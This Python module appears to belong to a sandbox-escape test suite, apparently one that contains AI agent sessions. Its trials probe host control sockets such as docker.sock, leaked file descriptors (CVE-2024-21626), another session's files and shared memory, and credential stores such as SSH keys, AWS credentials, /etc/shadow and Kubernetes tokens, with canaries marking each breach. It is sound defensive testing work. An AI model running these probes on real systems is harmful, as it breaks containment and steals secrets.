"""Ways to what lies beside a sandbox: sockets, leaked descriptors, secrets of the host, another sandbox's files."""

import contextlib
import os
from collections.abc import AsyncIterator
from typing import Final

import msgspec

from opensafe.proof.escape import guest, host, ways
from opensafe.proof.escape.ground import Ground, Row, Scene, attempts, judged, told, tried, weakened
from opensafe.proof.escape.probe import Boundary, Run, Severity
from opensafe.proof.escape.trial import Attempt, Trial
from opensafe.proof.escape.ways import FILTER, MOUNTED, POLICY, PYTHON, USER, Way
from opensafe.proof.escape.weakening import AS_SHIPPED, IN_REACH, Weakening

from . import scenes

_SOCKETS = Row(
    scene=scenes.sockets,
    command="curl -s --unix-socket /var/run/docker.sock http://x/; curl -s --unix-socket {directory}/docker.sock http://x/",
    program="""
KNOWN = "docker.sock containerd/containerd.sock crio/crio.sock podman/podman.sock dbus/system_bus_socket"
NAMES = "docker.sock containerd.sock crio.sock podman.sock system_bus_socket opensafe.sock"
def knock(path):
    with socket.socket(socket.AF_UNIX) as peer:
        peer.settimeout(2)
        peer.connect(path)
        peer.sendall(b"GET /version HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
        return peer.recv(100)
known = [base + name for base in ("/run/", "/var/run/") for name in KNOWN.split()]
known += [DIRECTORY + "/" + name for name in NAMES.split()]
found = [path for path in walk("/") if os.path.lexists(path) and stat.S_ISSOCK(os.lstat(path).st_mode)]
for path in dict.fromkeys(known + found):
    attempt(path, knock, path)
attempt("abstract", knock, "\\0" + ABSTRACT)
for line in read("/proc/net/unix", 1 << 20).decode().splitlines()[1:]:
    path = line.split()[-1]
    if path.startswith("@"):
        attempt("listed " + path, knock, "\\0" + path[1:])
""",
)
_DESCRIPTORS: Final = """
def standing():
    found = []
    for name in names("/proc/self/fd"):
        try:
            os.fstat(int(name))
            found.append(int(name))
        except OSError:
            pass
    return found
more = [number for number in standing() if number > 2]
show("descriptors beyond the streams: %r" % more)
def by(number, way):
    return os.read(os.open(way, os.O_RDONLY, dir_fd=number), 100)
for number in list(range(3, 24)) + more:
    attempt("read %d" % number, os.pread, number, 100, 0)
    attempt("beneath %d" % number, by, number, "canary")
    attempt("above %d" % number, by, number, "../" * 24 + CANARY)
    attempt("by name %d" % number, read, "/proc/self/fd/%d/../../../../../..%s" % (number, CANARY), 100)
    attempt("chdir %d" % number, os.fchdir, number)
"""


class _Leaked(scenes.Planted):
    async def found(self, output: bytes) -> str:
        more = b"descriptors beyond the streams: [" in output and b"descriptors beyond the streams: []" not in output
        return self.canary.read_in(output) or ("the program has more descriptors than its streams" if more else "")


@contextlib.asynccontextmanager
async def _leaked() -> AsyncIterator[_Leaked]:
    """A canary that this process has open, directory and file, for every child that is not kept from inheriting."""
    with host.Canary.planted() as planted, contextlib.ExitStack() as stack:
        for path in (planted.directory, planted.file):
            descriptor = os.open(path, os.O_RDONLY)
            stack.callback(os.close, descriptor)
            os.set_inheritable(descriptor, True)
        yield _Leaked(planted)


_FDS = Row(
    scene=_leaked, program=_DESCRIPTORS, command="ls -l /proc/self/fd; cat <&3; cat /proc/self/fd/3/../..{canary}"
)


async def _handed_over(on: Ground) -> Run:
    """The control: a launcher that hands a descriptor on."""
    async with _leaked() as scene, on.cells.cell() as cell:
        with open(scene.canary.file, "rb") as file:  # noqa: ASYNC230 - it is there
            handed = {5: file.fileno()}
            return await tried(cell, _FDS, scene, lambda _, text: cell.raw(*PYTHON, text, descriptors=handed))


_SECRETS = Row(
    scene=scenes.secrets,
    command="env; cat /proc/*/environ ~/.ssh/id_rsa ~/.aws/credentials {directory}/.env {directory}/.ssh/id_rsa",
    program="""
NAMES = ".env .ssh/id_rsa .ssh/id_ed25519 .aws/credentials .kube/config .git-credentials .netrc .docker/config.json"
show(repr(dict(os.environ)))
show(subprocess.run(["env"], capture_output=True).stdout)
for pid in pids():
    attempt("environment of %d" % pid, read, "/proc/%d/environ" % pid, 1 << 16)
homes = [DIRECTORY, os.path.expanduser("~"), "/root", "/workspace"] + ["/home/" + name for name in names("/home")]
for home in homes:
    for name in NAMES.split():
        attempt(home + "/" + name, read, home + "/" + name)
for path in ("/etc/shadow", "/run/secrets", "/var/run/secrets/kubernetes.io/serviceaccount/token", "/proc/cmdline"):
    attempt(path, read, path)
wanted = [name.rpartition("/")[2] for name in NAMES.split()] + ["canary"]
for path in walk("/workspace", "/tmp", "/run", "/srv", "/mnt", "/media", "/opt", "/root", "/home", "/var", "/dev/shm"):
    if path.rpartition("/")[2] in wanted or path.endswith(".pem"):
        attempt(path, read, path)
for path in walk("/workspace", "/srv", "/root", "/home"):
    if path.endswith("/.git"):
        attempt(path, subprocess.run, ["git", "-C", path, "log", "-p", "--all"])
""",
)


def _told_a_secret(scene: Scene) -> Weakening:
    assert isinstance(scene, scenes.Secrets)  # noqa: S101 - it is this row's
    return Weakening(environment={scenes.HELD_VARIABLE: scene.nonce})


#: Where one guest leaves something, and where the other looks.
_LEAVE: Final = """
for place in ("/workspace", "/tmp", "/dev/shm", "/var/tmp", "/run", "/srv", "/mnt", DIRECTORY):
    attempt(place, write, place + "/" + NAME, LEFT)
    attempt("mode", os.chmod, place + "/" + NAME, 0o666)
segment = call("shmget", KEY, 4096, 0o1666)
attempt("segment", lambda: ctypes.memmove(call("shmat", segment, None, 0), LEFT.encode(), len(LEFT)))
"""
_LOOK: Final = """
for place in ("/workspace", "/tmp", "/dev/shm", "/var/tmp", "/run", "/srv", "/mnt", DIRECTORY):
    attempt(place, read, place + "/" + NAME)
attempt("segment", lambda: ctypes.string_at(call("shmat", call("shmget", KEY, 4096, 0), None, 0), 100))
for path in walk("/"):
    if path.endswith(NAME):
        attempt(path, read, path)
"""


class _Pair(scenes.Planted):
    """What the first guest leaves is known to it alone: breached where it comes out of the second one."""

    def __init__(self, canary: host.Canary) -> None:
        super().__init__(canary, KEY=int.from_bytes(os.urandom(3), "little") + 1)
        self.left = host.nonce()

    async def found(self, output: bytes) -> str:
        return "what one guest left came out of the other" if self.left.encode() in output else ""


@contextlib.asynccontextmanager
async def _pair() -> AsyncIterator[_Pair]:
    with host.Canary.planted() as planted:
        yield _Pair(planted)


async def _two_sessions(on: Ground) -> Run:
    async with _pair() as scene, on.session() as (one, session, sandbox), on.session() as (two, other, second):
        name = scene.facts["NAME"]
        leave = f"echo {scene.left} > /workspace/{name}; echo {scene.left} > /tmp/{name}; cat /workspace/{name}"
        left = await one.run_call(session, sandbox, "leave", "Bash", {"command": leave})
        look = f"cat /workspace/{name} /tmp/{name}; find / -name '{name}'"
        looked = await two.run_call(other, second, "look", "Bash", {"command": look})
        run = told(looked)
        began = run.began and scene.left.encode() in left.stdout
        return msgspec.structs.replace(run, began=began, found=await scene.found(looked.stdout + looked.stderr))


def _two_cells(weakening: Weakening, way: Way, *opened: str) -> Attempt:
    async def attempt(on: Ground) -> Run:
        mark = host.nonce()
        async with _pair() as scene, on.cells.cell(weakening) as one, on.cells.cell(weakening) as two:
            facts = {**scene.facts, "LEFT": scene.left}
            left = await way(one, guest.build(_LEAVE, facts, mark))
            looked = await way(two, guest.build(_LOOK, scene.facts, mark))
            run = await judged(scene, looked.stdout + looked.stderr, mark, opened=opened, filtered=False)
            return msgspec.structs.replace(run, began=run.began and guest.told(left.stdout, mark).finished)

    return attempt


def _sockets_in_reach(_: object) -> Weakening:
    return Weakening(binds=IN_REACH.binds, runsc=("--host-uds=open",))


async def _sockets_in_sight(on: Ground) -> Run:
    """The sockets mounted, and runsc as shipped."""
    run = await weakened(_SOCKETS, lambda _: IN_REACH, root=True)(on)
    return msgspec.structs.replace(run, opened=(POLICY, FILTER, USER, MOUNTED))


NEIGHBOURS = (
    Trial(
        id="FS-12", boundary=Boundary.FILESYSTEM, severity=Severity.ESCAPE,
        title="find and connect to sockets that command a host, by path, by search, and in the abstract namespace",
        attacks=("T1611", "T1609"), benchmark=("docker_socket",),
        breach="a listener of the host's accepts", control="flag: their directory is mounted, and --host-uds=open",
        attempts=(*attempts(_SOCKETS), _sockets_in_sight), weak=weakened(_SOCKETS, _sockets_in_reach, root=True),
    ),
    Trial(
        id="FS-18", boundary=Boundary.FILESYSTEM, severity=Severity.HOST_LEAK,
        title="use descriptors that were left open: list them, read them, walk from them (CVE-2024-21626)",
        attacks=("T1611",), benchmark=("k8s_runc",),
        breach="a descriptor beyond the three streams, or the canary's nonce through one",
        control="the launch hands on the canary's descriptor",
        attempts=attempts(_FDS), weak=_handed_over,
    ),
    Trial(
        id="FS-20", boundary=Boundary.FILESYSTEM, severity=Severity.LATERAL,
        title="read another session's workspace, temporary files and shared memory",
        attacks=("T1083", "T1210"),
        breach="what the one left comes out of the other", control="flag: both have the same directory mounted",
        attempts=(
            _two_sessions,
            _two_cells(AS_SHIPPED, ways.unfiltered, POLICY, FILTER),
            _two_cells(AS_SHIPPED, ways.as_root, POLICY, FILTER, USER),
        ),
        weak=_two_cells(IN_REACH, ways.unfiltered),
    ),
    Trial(
        id="FS-23", boundary=Boundary.FILESYSTEM, severity=Severity.HOST_LEAK,
        title="hunt for secrets: environment, keys, cloud files, .env, histories, environments of other processes",
        attacks=("T1552.001", "T1552.004", "T1552.007"),
        breach="a planted secret in the output", control="flag: a secret in the sandbox's environment",
        attempts=attempts(_SECRETS), weak=weakened(_SECRETS, _told_a_secret),
    ),
)  # fmt: skip
